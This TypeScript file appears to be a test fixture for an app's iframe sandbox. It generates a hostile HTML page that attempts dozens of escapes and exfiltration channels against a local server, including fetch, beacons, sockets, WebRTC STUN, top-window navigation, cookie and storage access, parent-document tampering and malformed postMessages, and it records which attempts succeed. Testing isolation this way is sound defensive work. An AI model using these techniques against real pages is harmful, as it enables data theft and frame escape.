// A page that tries every way out of its frame. Each attempt says what came of it: "done", or why not.

/** Asks a server who one is, by UDP, which no policy binds. */
const stun = (port: number): string =>
  `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });` +
  "peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));";

/** `port`: of a server of this machine that hears requests, sockets and datagrams. */
export const attacksOn = (port: number): string => `<!doctype html><html lang="en"><title>Hostile</title>
<link rel="stylesheet" href="http://127.0.0.1:${port}/style.css">
<link rel="prefetch" href="http://127.0.0.1:${port}/prefetch">
<link rel="preload" as="image" href="http://127.0.0.1:${port}/preload.png">
<link rel="preconnect" href="http://127.0.0.1:${port}">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://127.0.0.1:${port}/speculated"]}]}</script>
<body><img src="http://127.0.0.1:${port}/pixel.png" alt="">
<p style="background: url(http://127.0.0.1:${port}/background.png)">Hostile</p>
<iframe src="http://127.0.0.1:${port}/frame"></iframe>
<iframe srcdoc="<script>fetch('http://127.0.0.1:${port}/srcdoc')</script>"></iframe>
<iframe srcdoc="<script>${stun(port)}</script>"></iframe>
<iframe src="javascript:${stun(port)}"></iframe>
<iframe src="data:text/html,<script>${stun(port)}</script>"></iframe>
<iframe src="/app/tile-frame"></iframe>
<iframe id="blank-frame"></iframe>
<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri http://127.0.0.1:${port}/report">
<img attributionsrc="http://127.0.0.1:${port}/attribution" alt="">
<link rel="dns-prefetch" href="http://127.0.0.1:${port}">
<link rel="modulepreload" href="http://127.0.0.1:${port}/modulepreload.js">
<link rel="manifest" href="http://127.0.0.1:${port}/manifest">
<link rel="icon" href="http://127.0.0.1:${port}/icon">
<object data="http://127.0.0.1:${port}/object"></object><embed src="http://127.0.0.1:${port}/embed">
<video src="http://127.0.0.1:${port}/video.mp4"></video><audio src="http://127.0.0.1:${port}/audio.mp3"></audio>
<form id="form" action="http://127.0.0.1:${port}/form" method="post"><input name="a" value="b"></form>
<form id="top" action="http://127.0.0.1:${port}/form-top" target="_top"></form>
<a id="link" href="http://127.0.0.1:${port}/link" target="_top" ping="http://127.0.0.1:${port}/ping">Link</a>
<a id="blank" href="http://127.0.0.1:${port}/blank" target="_blank">Link</a>
<output id="attempts"></output>
<script src="http://127.0.0.1:${port}/script.js"></script>
<script>
(async () => {
  const url = "http://127.0.0.1:${port}";
  const outcomes = {};
  const attempt = async (name, act) => {
    try {
      const end = new Promise((_, reject) => setTimeout(() => reject(new Error("No answer")), 1000));
      await Promise.race([act(), end]);
      outcomes[name] = "done";
    } catch (error) {
      outcomes[name] = String(error);
    }
  };
  const settles = (element, src) => new Promise((resolve, reject) => {
    element.onload = element.onopen = element.onmessage = resolve;
    element.onerror = element.onclose = () => reject(new Error("Refused"));
    if (src) element.src = src;
  });
  const silent = (act) => async () => { act(); throw new Error("Nothing to be heard"); };
  await attempt("fetch", () => fetch(url + "/fetch", { mode: "no-cors" }));
  await attempt("keepalive", () => fetch(url + "/keepalive", { method: "POST", keepalive: true, body: "x" }));
  await attempt("own host", () => fetch("${"/v4/me"}"));
  await attempt("XMLHttpRequest", () => { const request = new XMLHttpRequest(); request.open("GET", url + "/xhr"); const end = settles(request); request.send(); return end; });
  await attempt("WebSocket", () => settles(new WebSocket(url.replace("http", "ws") + "/socket")));
  await attempt("EventSource", () => settles(new EventSource(url + "/events")));
  await attempt("beacon", silent(() => navigator.sendBeacon(url + "/beacon", "x")));
  await attempt("image", () => settles(new Image(), url + "/image.png"));
  await attempt("font", () => new FontFace("f", "url(" + url + "/font.woff2)").load());
  await attempt("import", () => import(url + "/module.js"));
  await attempt("worker", () => settles(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))));
  await attempt("WebTransport", () => new WebTransport(url.replace("http", "https") + "/transport").ready);
  await attempt("form", silent(() => document.querySelector("#form").submit()));
  await attempt("form to the top", silent(() => document.querySelector("#top").submit()));
  await attempt("link", silent(() => document.querySelector("#link").click()));
  await attempt("link to a new window", silent(() => document.querySelector("#blank").click()));
  await attempt("top.location", () => { top.location.href = url + "/top"; });
  await attempt("parent.location", () => { parent.location = url + "/parent"; });
  await attempt("window.open", () => { if (open(url + "/open") === null) throw new Error("Refused"); });
  await attempt("parent's document", () => { parent.document.title = "stolen"; });
  await attempt("frame element", () => { frameElement.remove(); });
  await attempt("cookies", () => document.cookie);
  await attempt("localStorage", () => localStorage.setItem("a", "b"));
  await attempt("sessionStorage", () => sessionStorage.setItem("a", "b"));
  await attempt("indexedDB", () => settles({}, indexedDB.open("a")));
  await attempt("caches", () => caches.open("a"));
  await attempt("service worker", () => navigator.serviceWorker.register("/app/tile-frame"));
  await attempt("alert", silent(() => alert("x")));
  await attempt("STUN", async () => { ${stun(port)} });
  await attempt("STUN of a frame within", async () => {
    const { RTCPeerConnection } = document.querySelector("#blank-frame").contentWindow;
    ${stun(port)}
  });
  await attempt("a fetch for later", silent(() => fetchLater(url + "/later", { activateAfter: 0 })));
  await attempt("a script of its own", () => new Promise((resolve) => {
    globalThis.ran = resolve;
    document.body.append(Object.assign(document.createElement("script"), { textContent: "ran()" }));
  }));
  for (const message of [
    { type: "ready" }, { type: "height", pixels: 1e9 }, { type: "height", pixels: "x" }, { type: "page", html: "x" },
    { type: "fjord:set", theme: "dark" }, { type: "data", datasets: {} }, null, "x",
  ]) parent.postMessage(message, "*"), top.postMessage(message, "*");
  const shown = document.querySelector("#attempts");
  shown.textContent = JSON.stringify(outcomes);
  shown.dataset.done = "";
})();
</script></body></html>`;
